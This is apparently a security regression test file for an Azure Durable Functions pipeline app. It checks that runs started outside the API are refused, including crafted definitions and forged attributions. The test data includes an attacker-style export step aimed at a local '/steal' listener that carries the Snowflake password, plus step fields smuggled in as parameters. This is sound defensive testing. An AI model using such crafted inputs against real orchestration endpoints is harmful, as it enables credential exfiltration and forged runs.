/**
 * A run exists only if the API or the scheduler created it (issue 20 item 3; issue 11 item 1 before
 * it). The crafted export step points at a local listener and asks for the Snowflake password as
 * its function key, the way the attack in issue 11 did; the forged runs claim an attribution
 * (`trigger.by`) nobody gave them. Each is tried through a door that starts an orchestration without
 * the API: the Durable client and the raw Durable webhook with its key. Every such run is refused
 * before anything runs — no record is created for it and nothing is written into the record of a
 * run it names — the listener receives nothing, and the secret canary is in no history, status,
 * answer or record.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ORCHESTRATOR_NAMES, type RunInput } from '../../src/engine/types';
import type { PipelineDefinition } from '../../src/pipelines/schema';
import { definitionVersion } from '../../src/pipelines/version';
import { startApp, FUNCTION_KEY, type AppHarness } from '../support/appHarness';
import { withCanary, type Canary } from '../support/canary';

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** The attacker's listener: records every request it gets. */
async function startListener(): Promise<{ url: string; received: Received[]; close(): Promise<void> }> {
  const received: Received[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

let app: AppHarness;
let canary: Canary;
let listener: Awaited<ReturnType<typeof startListener>>;
let deployed: PipelineDefinition;

before(async () => {
  app = await startApp();
  listener = await startListener();
  // Every secret the crafted run could aim at is the canary: the export key and the Snowflake password.
  canary = withCanary();
  app.world.exportFunction.config.key = canary.value;
  app.world.keyVault.setSecret('azure-function-key', canary.value);
  app.world.keyVault.setSecret('snowflake-password', canary.value);
  app.world.snowflake.setUser('PIPELINE_LOADER', { password: canary.value });
  app.services.secrets.invalidate('azure-function-key');
  app.services.secrets.invalidate('snowflake-password');
  const seed = app.services.catalog.get('data-pipeline');
  if (!seed) throw new Error('the seed pipeline is not deployed');
  deployed = seed;
});
after(async () => {
  await listener.close();
  await app.stop();
});

/** The deployed seed with its export step aimed at the listener, carrying the Snowflake password as its key. */
function craftedDefinition(): PipelineDefinition {
  return {
    ...deployed,
    steps: deployed.steps.map((step) =>
      step.id === 'export' && step.kind === 'azureFunction' ? { ...step, url: `${listener.url}/steal`, functionKey: { secret: 'snowflake-password' }, retry: { ...step.retry, attempts: 1 } } : step,
    ),
    alerts: [{ on: ['failed', 'succeeded'], channel: 'slack', webhook: { secret: 'snowflake-password' } }],
  };
}

/** What an attacker holding the Durable webhook key sends: a definition of their own in place of the pipeline name. */
function craftedInput(runId: string, version: 'its own' | 'the deployed one'): Record<string, unknown> {
  const pipeline = craftedDefinition();
  return {
    pipeline,
    definitionVersion: version === 'its own' ? definitionVersion(pipeline) : definitionVersion(deployed),
    runId,
    trigger: { kind: 'manual', by: 'user:admin@contoso.com' },
    // The deployed seed's parameters, as a caller who knows them would send (`day` has no run date to default to here).
    parameters: { day: '2026-11-28' },
  };
}

/** The same input a genuine run of the deployed seed gets, with a forged attribution. */
function deployedInput(runId: string, by: string): RunInput {
  return { pipeline: deployed.name, definitionVersion: definitionVersion(deployed), runId, trigger: { kind: 'manual', origin: 'api', by }, parameters: {} };
}

function startThroughWebhook(instanceId: string, input: unknown): Promise<Response> {
  return fetch(`${app.baseUrl}/runtime/webhooks/durabletask/orchestrators/${ORCHESTRATOR_NAMES.runPipeline}/${instanceId}?code=${FUNCTION_KEY}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(input),
  });
}

/** Step sub-orchestrations of a run the host knows. */
const stepInstances = (runId: string): number => app.host.instanceIds().filter((id) => id.startsWith(`${runId}:`)).length;

/** The orchestration failed with the refusal, and no step ran. */
async function assertRefused(instanceId: string, reason: RegExp, stepsBefore = 0): Promise<void> {
  const status = await app.host.waitFor(instanceId, { timeoutMs: 60_000 });
  assert.equal(String(status.runtimeStatus), 'Failed', JSON.stringify(status.output));
  assert.match(String(status.output), /run refused: /);
  assert.match(String(status.output), reason);
  assert.equal(stepInstances(instanceId), stepsBefore, 'no step sub-orchestration started');
}

/** Nothing reached the listener, and the canary is nowhere the app keeps or answers with. */
async function assertNothingLeaked(runId: string): Promise<void> {
  assert.deepEqual(listener.received, [], 'the listener was called');
  for (const id of app.host.instanceIds()) canary.assertNoCanary(app.host.executions(id), app.host.status(id));
  canary.assertNoCanary(await app.store.getRun(runId), await app.store.getAttempts(runId));
  for (const path of [`runs/${runId}`, `runs/${runId}/logs?limit=1000`]) canary.assertNoCanary((await app.api('GET', path)).text);
  canary.assertNoCanary(app.world.slack.posts);
}

describe('a run started outside the API', () => {
  test('cannot be started through the HTTP API with a definition: it takes a pipeline name and parameters only', async () => {
    const crafted = craftedInput('unused', 'its own');
    const withDefinition = await app.api<{ invalidFields?: { field: string; message: string }[] }>('POST', 'pipelines/data-pipeline/runs', { pipeline: crafted['pipeline'], definitionVersion: crafted['definitionVersion'] });
    assert.equal(withDefinition.status, 400, withDefinition.text);
    assert.deepEqual(withDefinition.json.invalidFields?.map((f) => f.field).sort(), ['body.definitionVersion', 'body.pipeline']);
    // A step's fields smuggled in as parameters are unknown parameters.
    const asParameters = await app.api('POST', 'pipelines/data-pipeline/runs', { parameters: { url: `${listener.url}/steal`, functionKey: { secret: 'snowflake-password' } } });
    assert.equal(asParameters.status, 400, asParameters.text);
    assert.match(asParameters.text, /parameters\.url/);
    assert.equal(app.runInstances().length, 0);
    assert.deepEqual(listener.received, []);
  });

  test('with a crafted definition, through the Durable client, is refused: nothing runs, nothing is recorded or sent', async () => {
    const runId = 'crafted-client';
    await app.host.client.startNew(ORCHESTRATOR_NAMES.runPipeline, { instanceId: runId, input: craftedInput(runId, 'its own') });
    await assertRefused(runId, /./);
    assert.equal(await app.store.getRun(runId), undefined, 'no record appears for a run nobody created');
    await assertNothingLeaked(runId);
  });

  test('through the raw Durable webhook with the deployed definition and a forged attribution is refused: a run exists only if the API or the scheduler created it (READ_ONLY or not)', async () => {
    const runId = 'forged-webhook';
    const exportCalls = app.world.exportFunction.calls.length;
    const response = await startThroughWebhook(runId, deployedInput(runId, 'user:admin@contoso.com'));
    assert.equal(response.status, 202, await response.text());
    await assertRefused(runId, /run "forged-webhook" has no record/);
    assert.equal(await app.store.getRun(runId), undefined);
    assert.equal(app.world.exportFunction.calls.length, exportCalls, 'no step called the export function');
    await assertNothingLeaked(runId);
  });

  test('reusing the id of a run the API created, with another attribution, is refused and writes nothing into that run`s record', async () => {
    // A run the API created and that has ended: Durable lets its instance be started again (NonRunningStates).
    const started = await app.api<{ runId: string }>('POST', 'pipelines/data-pipeline/runs', {});
    assert.equal(started.status, 202, started.text);
    const runId = started.json.runId;
    await app.until('the API`s run to end', async () => ((await app.store.getRun(runId))?.status === 'succeeded' ? true : undefined), { timeoutMs: 60_000 });
    const before = { run: await app.store.getRun(runId), attempts: await app.store.getAttempts(runId), logs: (await app.store.getLogs(runId, { limit: 1000 })).lines.length };
    const steps = stepInstances(runId);
    const response = await startThroughWebhook(runId, deployedInput(runId, 'user:mallory@contoso.com'));
    assert.equal(response.status, 202, await response.text());
    await assertRefused(runId, /was started manual by "key", not manual by "user:mallory@contoso\.com"/, steps);
    assert.deepEqual(await app.store.getRun(runId), before.run, 'the record is untouched: still "started by key", still succeeded');
    assert.deepEqual(await app.store.getAttempts(runId), before.attempts);
    assert.equal((await app.store.getLogs(runId, { limit: 1000 })).lines.length, before.logs, 'no log line written into it');
  });

  test('an input naming another run`s id is refused: no activity acts on the run it names', async () => {
    const started = await app.api<{ runId: string }>('POST', 'pipelines/data-pipeline/runs', {});
    const victim = started.json.runId;
    await app.until('the victim run to end', async () => ((await app.store.getRun(victim))?.status === 'succeeded' ? true : undefined), { timeoutMs: 60_000 });
    const before = { run: await app.store.getRun(victim), logs: (await app.store.getLogs(victim, { limit: 1000 })).lines.length };
    const victimTrigger = before.run?.trigger;
    const response = await startThroughWebhook('impostor', { ...deployedInput(victim, 'key'), trigger: victimTrigger });
    assert.equal(response.status, 202, await response.text());
    const status = await app.host.waitFor('impostor', { timeoutMs: 60_000 });
    assert.equal(String(status.runtimeStatus), 'Failed', JSON.stringify(status.output));
    assert.match(String(status.output), /instance "impostor" is not run "[^"]+"/);
    assert.deepEqual(await app.store.getRun(victim), before.run);
    assert.equal((await app.store.getLogs(victim, { limit: 1000 })).lines.length, before.logs, 'nothing written into the run it names');
  });

  test('a step orchestrator started through the webhook, naming a run the API created, refuses to run: it is only ever a sub-orchestration of its run', async () => {
    const started = await app.api<{ runId: string }>('POST', 'pipelines/data-pipeline/runs', {});
    const runId = started.json.runId;
    await app.until('the run to end', async () => ((await app.store.getRun(runId))?.status === 'succeeded' ? true : undefined), { timeoutMs: 60_000 });
    const exportCalls = app.world.exportFunction.calls.length;
    const before = (await app.store.getLogs(runId, { limit: 1000 })).lines.length;
    const step = { runId, pipelineName: deployed.name, definitionVersion: definitionVersion(deployed), parameters: {}, trigger: { kind: 'manual', origin: 'api', by: 'key' }, stepId: 'export', attemptsBefore: 1 };
    const response = await fetch(`${app.baseUrl}/runtime/webhooks/durabletask/orchestrators/${ORCHESTRATOR_NAMES.runStep}/${runId}:export:from2?code=${FUNCTION_KEY}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(step),
    });
    assert.equal(response.status, 202, await response.text());
    const status = await app.host.waitFor(`${runId}:export:from2`, { timeoutMs: 60_000 });
    assert.equal(String(status.runtimeStatus), 'Failed');
    assert.match(String(status.output), /run refused: .* runs only under run "[^"]+" \(its parent: none\)/);
    assert.equal(app.world.exportFunction.calls.length, exportCalls, 'the export function was not called');
    assert.equal((await app.store.getLogs(runId, { limit: 1000 })).lines.length, before, 'nothing written into the run');
  });
});
